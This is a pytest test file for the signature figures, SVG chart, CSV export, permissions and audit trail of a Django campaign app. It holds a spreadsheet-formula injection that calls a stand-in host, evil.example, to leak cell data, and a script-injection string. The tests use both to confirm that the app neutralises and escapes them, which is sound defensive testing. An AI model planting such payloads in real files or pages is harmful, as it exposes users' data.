import csv
import io
import re
from datetime import date, timedelta

import pytest
from django.core.exceptions import PermissionDenied
from django.urls import reverse
from django.utils import timezone, translation

from convoca.actions.admin import signature_figures
from convoca.actions.charts import bar_chart_svg
from convoca.actions.exports import (
    signature_export_csv,
    signature_export_header,
    signature_export_rows,
)
from convoca.actions.models import Signature
from convoca.actions.services import SignatureData, signature_confirm, signature_create
from convoca.core.models import AuditEntry
from convoca.organisations.models import Membership
from convoca.people.models import Consent
from convoca.people.services import PersonData, consent_withdraw, person_erase

COLUMNS = {name: i for i, name in enumerate(signature_export_header())}


def _sign(action, email, *, given_name="Ana", country="MX", confirm=True, **fields):
    person = PersonData(
        email=email,
        given_name=given_name,
        family_name="López",
        country=country,
        city="Oaxaca",
        postal_code="68000",
        language=action.language,
    )
    signature = signature_create(action=action, data=SignatureData(person=person, **fields))
    if confirm:
        signature_confirm(signature=signature.signature)
    return signature.signature


@pytest.fixture
def spanish(appeal, make_action):
    return make_action(
        language="es",
        slug="levanten-las-sanciones",
        title="Levanten las sanciones",
        translation_key=appeal.translation_key,
    )


@pytest.fixture
def signed(appeal, spanish):
    """Three signatures across both languages: two confirmed, one with a formula typed in."""
    return {
        "ana": _sign(appeal, "ana@example.org", source="union-42"),
        "bea": _sign(
            spanish,
            "bea@example.org",
            given_name="Bea",
            country="AR",
            organisation_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            role="+Secretaria",
            members_represented=1200,
        ),
        "carla": _sign(appeal, "carla@example.org", given_name="Carla", confirm=False),
    }


@pytest.fixture
def viewer(make_staff, organisation):
    return make_staff("viewer", Membership.Role.VIEWER, organisation)


def _figures_url(action):
    return reverse("admin:actions_action_figures", args=[action.pk])


def _export_url(action):
    return reverse("admin:actions_action_export", args=[action.pk])


def _figure(page, name):
    return re.search(rf'data-figure="{name}">([^<]*)<', page.text).group(1)


def _parse(response):
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --- The chart ---------------------------------------------------------------------------


def test_the_chart_is_an_svg_with_a_title_a_description_and_one_bar_a_day():
    points = [(date(2026, 3, 1), 4), (date(2026, 3, 2), 0), (date(2026, 3, 3), 10)]
    svg = bar_chart_svg(points, width=300, height=120, label="Signatures per day")
    assert svg.startswith("<svg")
    assert 'role="img"' in svg
    assert "<title id=" in svg and ">Signatures per day</title>" in svg
    assert "<desc id=" in svg and "from 2026-03-01 to 2026-03-03" in svg
    assert "14 in all; the highest day is 2026-03-03 with 10" in svg
    assert svg.count("<rect") == 3
    assert "<title>2026-03-02: 0</title>" in svg
    assert "<script" not in svg


def test_the_chart_escapes_every_text_it_is_given():
    svg = bar_chart_svg(
        [(date(2026, 3, 1), 1)], width=300, height=120, label='<script>alert("x")</script>'
    )
    assert "<script>" not in svg
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in svg


def test_a_chart_without_data_or_with_only_zeros_is_still_drawn():
    empty = bar_chart_svg([], width=300, height=120, label="Nothing")
    assert "<rect" not in empty and "No data yet." in empty
    zeros = bar_chart_svg([(date(2026, 3, 1), 0)] * 2, width=300, height=120, label="Zeros")
    assert zeros.count('height="0"') == 2


# --- The figures page --------------------------------------------------------------------


def test_the_organiser_sees_the_figures_of_all_language_versions_with_a_chart(
    client, organiser, appeal, signed
):
    client.force_login(organiser)
    page = client.get(_figures_url(appeal))
    assert page.status_code == 200
    assert [_figure(page, n) for n in ("total", "confirmed", "unconfirmed", "counted")] == [
        "3",
        "2",
        "1",
        "2",
    ]
    assert "<svg" in page.text and "<title id=" in page.text
    assert "<details" in page.text  # the chart's figures as a table
    assert "Mexico (MX)" in page.text and "Argentina (AR)" in page.text
    assert "<code>union-42</code>" in page.text
    assert "none (direct)" in page.text
    assert "Export signatures as CSV" in page.text
    assert "ana@example.org" not in page.text


def test_figures_count_per_day_with_the_days_without_signatures(appeal, signed):
    three_days_ago = timezone.now() - timedelta(days=3)
    Signature.objects.filter(pk=signed["ana"].pk).update(created_at=three_days_ago)
    figures = signature_figures(action=appeal)
    assert [count for _, count in figures.per_day] == [1, 0, 0, 2]
    assert figures.per_day[-1][0] == timezone.localdate()
    assert len(figures.last_30_days) == 30
    assert sum(count for _, count in figures.last_30_days) == 3
    assert figures.by_country == [("MX", "Mexico", 2), ("AR", "Argentina", 1)]
    assert figures.by_source == [("", 2), ("union-42", 1)]


def test_another_organisations_organiser_gets_404_for_the_figures_and_the_export(
    client, make_staff, other_organisation, appeal, signed
):
    stranger = make_staff("stranger", Membership.Role.ORGANISER, other_organisation)
    client.force_login(stranger)
    assert client.get(_figures_url(appeal)).status_code == 404
    assert client.post(_export_url(appeal)).status_code == 404
    assert client.get(reverse("admin:actions_action_figures", args=["nonsense"])).status_code == (
        404
    )
    assert not AuditEntry.objects.exists()


def test_the_action_list_and_form_link_to_the_figures(client, organiser, appeal):
    client.force_login(organiser)
    listing = client.get(reverse("admin:actions_action_changelist"))
    assert _figures_url(appeal) in listing.text
    form = client.get(reverse("admin:actions_action_change", args=[appeal.pk]))
    assert _figures_url(appeal) in form.text


# --- The export --------------------------------------------------------------------------


def test_the_export_streams_every_signature_and_neutralises_a_typed_formula(
    client, organiser, appeal, signed
):
    client.force_login(organiser)
    response = client.post(_export_url(appeal))
    assert response.status_code == 200
    assert response.streaming
    today = timezone.localdate().isoformat()
    assert response["Content-Disposition"] == (
        f'attachment; filename="signatures-lift-the-sanctions-{today}.csv"'
    )
    assert "no-store" in response["Cache-Control"]  # the admin's never_cache
    header, *rows = _parse(response)
    assert header == signature_export_header()
    # Carla never confirmed her address: she may not be who signed, so she stays out.
    assert [row[COLUMNS["email"]] for row in rows] == ["ana@example.org", "bea@example.org"]
    ana, bea = rows
    assert ana[COLUMNS["source"]] == "union-42"
    assert ana[COLUMNS["language version"]] == "en"
    assert ana[COLUMNS["city"]] == "Oaxaca" and ana[COLUMNS["postal code"]] == "68000"
    assert ana[COLUMNS["appears as"]] == "do not show me"
    assert bea[COLUMNS["language version"]] == "es"
    assert bea[COLUMNS["language"]] == "es"
    assert bea[COLUMNS["organisation"]] == ('\'=HYPERLINK("http://evil.example/?x="&A1,"Click")')
    assert bea[COLUMNS["role"]] == "'+Secretaria"
    assert bea[COLUMNS["members represented"]] == "1200"
    assert bea[COLUMNS["family name"]] == "López"
    assert ana[COLUMNS["confirmed at"]].startswith(today)
    [entry] = AuditEntry.objects.all()
    assert (entry.user, entry.organisation, entry.verb, entry.target, entry.count) == (
        organiser,
        appeal.organisation,
        "export signatures",
        "Lift the sanctions",
        2,
    )


def test_an_erased_signer_stays_in_the_export_without_personal_data(
    client, coordinator, appeal, signed
):
    person_erase(person=signed["bea"].person)
    client.force_login(coordinator)
    _, _, bea = _parse(client.post(_export_url(appeal)))
    for column in (
        "email",
        "given name",
        "family name",
        "city",
        "postal code",
        "organisation",
        "role",
        "members represented",
        "comment",
    ):
        assert bea[COLUMNS[column]] == "", column
    assert bea[COLUMNS["country code"]] == "AR"
    assert bea[COLUMNS["signed at"]]


def test_a_viewer_sees_the_figures_but_cannot_export(client, viewer, appeal, signed):
    client.force_login(viewer)
    page = client.get(_figures_url(appeal))
    assert page.status_code == 200
    assert _figure(page, "total") == "3"
    assert "Export signatures as CSV" not in page.text
    assert client.post(_export_url(appeal)).status_code == 403
    listing = client.post(
        reverse("admin:actions_action_changelist"),
        {"action": "export_signatures", "_selected_action": [appeal.pk]},
    )
    assert not listing.streaming
    assert not AuditEntry.objects.exists()


def test_the_export_is_not_a_link_that_a_visit_or_prefetch_could_follow(
    client, organiser, appeal, signed
):
    client.force_login(organiser)
    assert client.get(_export_url(appeal)).status_code == 405
    assert not AuditEntry.objects.exists()


def test_the_list_action_exports_one_action_in_all_its_languages(
    client, coordinator, appeal, spanish, signed, make_action
):
    client.force_login(coordinator)
    url = reverse("admin:actions_action_changelist")
    response = client.post(
        url, {"action": "export_signatures", "_selected_action": [appeal.pk, spanish.pk]}
    )
    assert len(_parse(response)) == 1 + 2
    assert AuditEntry.objects.get().count == 2

    other = make_action(slug="another", title="Another")
    refused = client.post(
        url, {"action": "export_signatures", "_selected_action": [appeal.pk, other.pk]}, follow=True
    )
    assert "Choose one action" in refused.text
    assert AuditEntry.objects.count() == 1


def test_an_interrupted_export_is_recorded_with_the_rows_written(
    organiser, appeal, signed, monkeypatch
):
    monkeypatch.setattr("convoca.core.csv.CHUNK_SIZE", 1)  # one row per chunk
    stream = signature_export_csv(action=appeal, user=organiser)
    next(stream)  # the header
    next(stream)  # the first row
    assert not AuditEntry.objects.exists()
    stream.close()  # what the server does when the download is cancelled
    assert AuditEntry.objects.get().count == 1


def test_a_co_sponsor_exports_only_the_signers_who_consented_to_it(
    appeal, other_organisation, make_staff, signed
):
    appeal.co_sponsors.add(other_organisation)
    co_organiser = make_staff("co-organiser", Membership.Role.ORGANISER, other_organisation)
    co_viewer = make_staff("co-viewer", Membership.Role.VIEWER, other_organisation)
    consents = {other_organisation.pk: "CSI may email me."}
    _sign(appeal, "dora@example.org", given_name="Dora", consents=consents)
    eva = _sign(appeal, "eva@example.org", given_name="Eva", consents=consents)
    consent_withdraw(
        person=eva.person, organisation=other_organisation, purpose=Consent.Purpose.CONTACT
    )

    rows = list(signature_export_rows(action=appeal, user=co_organiser))
    assert [row[COLUMNS["email"]] for row in rows] == ["dora@example.org"]
    with pytest.raises(PermissionDenied):
        signature_export_rows(action=appeal, user=co_viewer)


def test_a_co_sponsors_staff_see_the_action_and_its_figures_but_cannot_change_it(
    client, appeal, other_organisation, make_staff
):
    appeal.co_sponsors.add(other_organisation)
    co_organiser = make_staff("co-organiser", Membership.Role.ORGANISER, other_organisation)
    client.force_login(co_organiser)

    assert "Lift the sanctions" in client.get("/admin/actions/action/").text
    change_url = f"/admin/actions/action/{appeal.pk}/change/"
    page = client.get(change_url)
    assert page.status_code == 200
    assert "Lift the sanctions" in page.text
    assert 'name="title"' not in page.text  # shown, not editable
    assert client.post(change_url, {"title": "Taken over"}).status_code == 403
    appeal.refresh_from_db()
    assert appeal.title == "Lift the sanctions"
    assert client.get(_figures_url(appeal)).status_code == 200


def test_a_version_in_another_language_belongs_to_its_actions_organisation_and_no_other(
    appeal, other_organisation, make_action, make_staff
):
    # Once, a version could be joined to another organisation's action and its
    # organiser exported that version's signers. The organisation is now shared by
    # every version: another organisation has no version, and exports nobody.
    intruder = make_staff("intruder", Membership.Role.ORGANISER, other_organisation)
    joined = make_action(language="es", slug="otra", translation_key=appeal.translation_key)
    assert joined.organisation == appeal.organisation
    _sign(appeal, "ana@example.org")
    _sign(joined, "fran@example.org", given_name="Fran")
    with pytest.raises(PermissionDenied):
        signature_export_rows(action=appeal, user=intruder)
    with pytest.raises(PermissionDenied):
        signature_export_rows(action=joined, user=intruder)


def test_an_organiser_cannot_make_their_action_a_translation_of_another_organisations(
    client, organiser, coordinator, appeal, other_organisation, make_action
):
    theirs = make_action(
        slug="draft-of-another", title="A draft of another group", organisation=other_organisation
    )
    change = reverse("admin:actions_action_change", args=[appeal.pk])
    client.force_login(organiser)
    assert "A draft of another group" not in client.get(change).text
    client.force_login(coordinator)
    assert "A draft of another group" in client.get(change).text
    assert theirs.translation_key != appeal.translation_key


# --- The audit trail ---------------------------------------------------------------------


def test_only_coordinators_read_the_audit_trail_and_nobody_changes_it(
    client, coordinator, organiser, appeal, signed
):
    client.force_login(organiser)
    _parse(client.post(_export_url(appeal)))
    entry = AuditEntry.objects.get()
    changelist = reverse("admin:core_auditentry_changelist")
    assert client.get(changelist).status_code == 403

    client.force_login(coordinator)
    listing = client.get(changelist)
    assert listing.status_code == 200
    assert "exported signatures" in listing.text and "Lift the sanctions" in listing.text
    change = reverse("admin:core_auditentry_change", args=[entry.pk])
    assert client.get(change).status_code == 200
    assert client.post(change, {"count": "0"}).status_code == 403
    assert client.get(reverse("admin:core_auditentry_add")).status_code == 403
    assert client.get(reverse("admin:core_auditentry_delete", args=[entry.pk])).status_code == 403
    assert AuditEntry.objects.get().count == 2


def test_joining_an_action_whose_group_has_this_language_is_refused_not_an_error(
    client, coordinator, appeal, spanish, organisation
):
    client.force_login(coordinator)
    response = client.post(
        reverse("admin:actions_action_add"),
        {
            "kind": "appeal",
            "language": "es",
            "translation_of": appeal.pk,
            "title": "Otra",
            "slug": "otra",
            "organisation": organisation.pk,
            "status": "draft",
            "goal": 0,
            "ask_organisation": "no",
            "ask_role": "no",
            "ask_members": "no",
            "ask_comment": "no",
            "ask_phone": "no",
            "ask_place": "no",
            "next_step": "share",
        },
    )
    assert response.status_code == 200
    assert "That text already has a version in this language." in response.text


def test_the_export_reads_in_chunks_oldest_first_with_ties_in_a_fixed_order(
    coordinator, appeal, spanish, monkeypatch
):
    monkeypatch.setattr("convoca.actions.exports.CHUNK_SIZE", 2)
    signatures = [_sign(appeal if n % 2 else spanish, f"signer{n}@example.org") for n in range(7)]
    _sign(appeal, "unconfirmed@example.org", confirm=False)
    # Signed out of order, three of them at the same moment.
    hours = [3, 1, 2, 1, 0, 1, 4]
    start = timezone.now() - timedelta(days=1)
    for signature, hour in zip(signatures, hours, strict=True):
        Signature.objects.filter(pk=signature.pk).update(created_at=start + timedelta(hours=hour))
    expected = [
        signature.person.email
        for _hour, _pk, signature in sorted(
            zip(hours, [s.pk for s in signatures], signatures, strict=True),
            key=lambda item: item[:2],
        )
    ]
    rows = list(signature_export_rows(action=appeal, user=coordinator))
    assert [row[COLUMNS["email"]] for row in rows] == expected


def test_how_each_signer_appears_is_written_in_the_language_of_the_export(coordinator, appeal):
    _sign(appeal, "ana@example.org")
    _sign(appeal, "bea@example.org", visibility=Signature.Visibility.COUNTRY)
    with translation.override("es"):
        rows = list(signature_export_rows(action=appeal, user=coordinator))
    assert [row[COLUMNS["appears as"]] for row in rows] == ["no mostrarme", "mostrar solo mi país"]
    rows = list(signature_export_rows(action=appeal, user=coordinator))
    assert [row[COLUMNS["appears as"]] for row in rows] == [
        "do not show me",
        "show only my country",
    ]
